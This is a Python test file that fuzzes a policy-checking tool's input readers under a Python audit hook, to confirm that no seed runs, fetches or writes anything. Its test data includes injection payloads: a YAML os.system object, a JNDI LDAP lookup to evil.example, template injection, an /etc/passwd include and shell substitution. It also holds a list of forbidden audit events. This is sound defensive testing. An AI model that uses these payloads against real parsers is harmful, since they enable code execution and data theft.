"""No input has anything run, fetched or opened elsewhere: an audit hook watches every reader.

The hook sees what Python itself is about to do (PEP 578), whichever library asks for it.
"""

import json
import subprocess
import sys
from pathlib import Path

import pytest
from command_line import API, environment

ROOT = Path(__file__).parents[2]
SEEDS = ROOT / "fuzz" / "seeds"
CALLS = (
    "!!python/object/apply:os.system ['touch owned']",
    "{{resolve:ssm:/x}} ${file(evil.js):x} ${env:HOME} ${ssm:/x} ${http(http://evil.example)}",
    "__import__('os').system('touch owned')",
    "${jndi:ldap://evil.example/a} {{7*7}} {% include '/etc/passwd' %} $(touch owned)",
)

WATCHED = """
import json, sys
from pathlib import Path

sys.path[:0] = [sys.argv[1]]
import policycheck.initialisers
import targets

FORBIDDEN = (
    "socket.", "subprocess.", "os.exec", "os.fork", "os.posix_spawn", "os.system", "os.spawn",
    "urllib.", "http.", "ftplib.", "smtplib.", "ctypes.dlopen", "pty.", "webbrowser.", "code.",
    "pickle.find_class",
)

allowed = tuple({str(Path(one).resolve()) for one in sys.path if one} | {sys.argv[2]})
heard = []

def hook(event, arguments):
    if not watching:
        return
    if event == "code.__new__" and arguments[1] == policycheck.initialisers.__file__:
        return  # a dataclass is made for the first time
    if event.startswith(FORBIDDEN):
        heard.append([event, repr(arguments)[:300]])
    elif event == "open":
        path, mode = str(arguments[0]), arguments[1]
        if mode and set(str(mode)) & set("wax+") and not path.startswith(PLACE):
            heard.append([event, path])
        if not Path(path).is_absolute() or not path.startswith((*allowed, PLACE, "/nonexistent")):
            heard.append([event, path])
    elif event == "compile" and any(one in str(arguments[0]) for one in ("evil", "owned")):
        heard.append([event, repr(arguments)[:300]])
    elif event == "exec" and not str(arguments[0].co_filename).startswith((*allowed, "<")):
        heard.append([event, arguments[0].co_filename])

PLACE = targets._PLACE.name
watching = False
sys.addaudithook(hook)
count = 0
for name, data in json.load(sys.stdin):
    watching = True
    try:
        targets.run(name, data.encode("utf-8", "surrogateescape"))
    finally:
        watching = False
    count += 1
print(json.dumps([count, heard]))
"""


def inputs():
    """Every seed as it is, and with each of its texts replaced by a call in turn."""
    for path in sorted(SEEDS.rglob("*.*")):
        text = path.read_text()
        yield path.parent.name, text
        for call in CALLS:
            for part in ("execute-api:/", "203.0.113.0/24", "aws:SourceIp", "policy.json", "dev"):
                if part in text:
                    yield path.parent.name, text.replace(part, json.dumps(call)[1:-1])


def watched(given, folder):
    done = subprocess.run(
        [sys.executable, "-B", "-c", WATCHED, str(ROOT / "fuzz"), sys.base_prefix],
        input=json.dumps(given),
        cwd=folder,
        env=environment(),
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def test_no_input_has_anything_run_or_fetched(tmp_path):
    given = list(inputs())
    assert {name for name, _ in given} == {path.name for path in SEEDS.iterdir()}
    count, heard = watched(given, tmp_path)
    assert count == len(given) > 100
    assert heard == []
    assert list(tmp_path.iterdir()) == []


def test_the_hook_hears_what_is_forbidden(tmp_path):
    """A reader that did run something would be heard."""
    bad = WATCHED.replace(
        "        targets.run(",
        "        import socket, subprocess; socket.socket().close();"
        " subprocess.run(['true']); open('owned', 'w').close()\n        targets.run(",
    )
    done = subprocess.run(
        [sys.executable, "-c", bad, str(ROOT / "fuzz"), sys.base_prefix],
        input=json.dumps([["request", f'{{"resource": "{API}/a/GET/"}}']]),
        cwd=tmp_path,
        env=environment(),
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    events = {event for event, _ in json.loads(done.stdout)[1]}
    assert events >= {"socket.__new__", "subprocess.Popen", "open"}


@pytest.mark.parametrize("name", [path.parent.name for path in sorted(SEEDS.rglob("*.*"))])
def test_every_seed_reaches_its_reader(name):
    """Each kind of seed has one that is read without a complaint."""
    sys.path.insert(0, str(ROOT / "fuzz"))
    try:
        import targets  # noqa: PLC0415
    finally:
        sys.path.pop(0)
    kinds = [path for path in SEEDS.rglob("*.*") if path.parent.name == name]
    for path in kinds:
        targets.TARGETS[name](path.read_bytes())
